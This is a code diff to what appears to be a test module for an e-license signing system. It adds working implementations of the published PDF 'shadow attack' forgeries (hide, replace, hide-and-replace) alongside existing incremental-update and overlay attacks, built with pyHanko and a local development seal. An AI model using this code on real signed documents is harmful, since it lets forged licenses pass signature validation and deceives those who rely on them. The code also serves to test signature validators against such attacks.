@@ -8,8 +8,11 @@ document reproducing one published attack class on PDF signatures
 
 from __future__ import annotations
 
+import datetime as dt
 import io
 import re
+from dataclasses import dataclass
+from pathlib import Path
 
 from pyhanko.pdf_utils import generic
 from pyhanko.pdf_utils.content import RawContent
@@ -154,9 +157,8 @@ def swa_objects_after_signed_range(data: bytes) -> bytes:
     return data + body + xref
 
 
-# Shadow attacks and overlays are appended revisions that only re-point or
-# add objects; see the tests for the hide-and-replace variants built with
-# objects prepared before signing.
+# Overlays: an appended revision adds an annotation over the page. The
+# shadow attacks, which need objects prepared before signing, are at the end.
 
 
 def overlay_annotation(data: bytes) -> bytes:
@@ -241,3 +243,140 @@ ALL_SIMPLE_ATTACKS = {
     "overlay_annotation": overlay_annotation,
     "overlay_signature_widget": overlay_signature_widget,
 }
+
+
+# Shadow attacks (Mainka et al., NDSS 2021): the attacker prepares content
+# before the bureau signs, as objects that no page shows yet. After signing,
+# a revision that only re-points existing objects reveals them. The helpers
+# below render a license, add the shadow objects, have the data dir's seal
+# sign the result, and build each malicious revision.
+
+
+@dataclass(frozen=True)
+class ShadowObjects:
+    """References of the objects prepared before signing."""
+
+    cover: generic.IndirectObject
+    forged: generic.IndirectObject
+    forged_page: generic.IndirectObject
+
+
+def render_with_seal(data_dir: Path, record: dict) -> tuple[bytes, object]:
+    """Render ``record`` and return the PDF and a signer of the data dir's seal."""
+    from common.authority import AuthorityRegistry
+    from esign.pki import DevPki
+    from esign.seal_artwork import VectorSeal
+    from esign.signing import LicenseSigner, SignatureLevel
+    from templates import FaceContext, load_catalogue, render_license
+
+    passphrase = (data_dir / "secrets" / "key-passphrase").read_text().strip().encode()
+    pki = DevPki(data_dir, passphrase, "http://127.0.0.1:8765")
+    authority = AuthorityRegistry.load().get(record["authority_code"])
+    template = load_catalogue().get(record["license_type"])
+    normalised = template.validate(record)
+    face = FaceContext(
+        elicense_id="1.2.156.3005.2.SHADOW.001.X",
+        version=1,
+        qr_text="HTTP://127.0.0.1:8765/V/SHADOW",
+        authority_name=authority.name,
+        authority_code=authority.code,
+        authority_region=authority.region_code,
+        issued_on=normalised.get("issued_on") or dt.date.today(),
+        seal=VectorSeal(authority.name, None, "证照专用章", authority.code),
+    )
+    rendered = render_license(template, normalised, face)
+    signer = LicenseSigner(
+        pki.load_seal(authority.code),
+        level=SignatureLevel.B_LT,
+        timestamper=pki.load_timestamper(),
+        validation_data=pki.validation_data,
+    )
+    return rendered.pdf, signer
+
+
+def add_shadow_objects(pdf: bytes) -> tuple[bytes, ShadowObjects]:
+    """Append unreferenced cover, forged content and forged page objects."""
+    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
+    cover = writer.add_object(generic.StreamObject(stream_data=WHITE_BOX))
+    forged = writer.add_object(generic.StreamObject(stream_data=FORGED_TEXT))
+    page_ref = writer.root["/Pages"]["/Kids"][0]
+    page = page_ref.get_object()
+    forged_page = writer.add_object(
+        generic.DictionaryObject(
+            {
+                generic.NameObject("/Type"): generic.NameObject("/Page"),
+                generic.NameObject("/Parent"): writer.root.raw_get("/Pages"),
+                generic.NameObject("/MediaBox"): page["/MediaBox"],
+                generic.NameObject("/Resources"): page.raw_get("/Resources"),
+                generic.NameObject("/Contents"): generic.ArrayObject([cover, forged]),
+            }
+        )
+    )
+    output = io.BytesIO()
+    writer.write(output)
+    return output.getvalue(), ShadowObjects(cover, forged, forged_page)
+
+
+def _repoint(signed: bytes, change) -> bytes:
+    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
+    change(writer)
+    output = io.BytesIO()
+    writer.write(output)
+    return output.getvalue()
+
+
+def _page(writer: IncrementalPdfFileWriter):
+    page_ref = writer.root["/Pages"]["/Kids"][0]
+    return page_ref.get_object()
+
+
+def reveal_hide(signed: bytes, shadow: ShadowObjects) -> bytes:
+    """Hide: the page also draws the prepared white cover over its content."""
+
+    def change(writer: IncrementalPdfFileWriter) -> None:
+        page = _page(writer)
+        contents = page.raw_get("/Contents")
+        page["/Contents"] = generic.ArrayObject([contents, _ref(writer, shadow.cover)])
+        writer.update_container(page)
+
+    return _repoint(signed, change)
+
+
+def reveal_replace(signed: bytes, shadow: ShadowObjects) -> bytes:
+    """Replace: the page's contents point at the prepared forged stream."""
+
+    def change(writer: IncrementalPdfFileWriter) -> None:
+        page = _page(writer)
+        page["/Contents"] = _ref(writer, shadow.forged)
+        writer.update_container(page)
+
+    return _repoint(signed, change)
+
+
+def reveal_hide_and_replace(signed: bytes, shadow: ShadowObjects) -> bytes:
+    """Hide-and-replace: the page tree points at the prepared forged page."""
+
+    def change(writer: IncrementalPdfFileWriter) -> None:
+        pages = writer.root["/Pages"]
+        pages["/Kids"] = generic.ArrayObject([_ref(writer, shadow.forged_page)])
+        writer.update_container(pages)
+
+    return _repoint(signed, change)
+
+
+def _ref(writer: IncrementalPdfFileWriter, old: generic.IndirectObject):
+    return generic.IndirectObject(old.idnum, old.generation, writer)
+
+
+SHADOW_ATTACKS = {
+    "shadow_hide": reveal_hide,
+    "shadow_replace": reveal_replace,
+    "shadow_hide_and_replace": reveal_hide_and_replace,
+}
+
+
+def prepare_signed_shadow(data_dir: Path, record: dict) -> tuple[bytes, ShadowObjects]:
+    """Render, add the shadow objects, and sign with the data dir's seal."""
+    pdf, signer = render_with_seal(data_dir, record)
+    prepared, shadow = add_shadow_objects(pdf)
+    return signer.sign(prepared), shadow
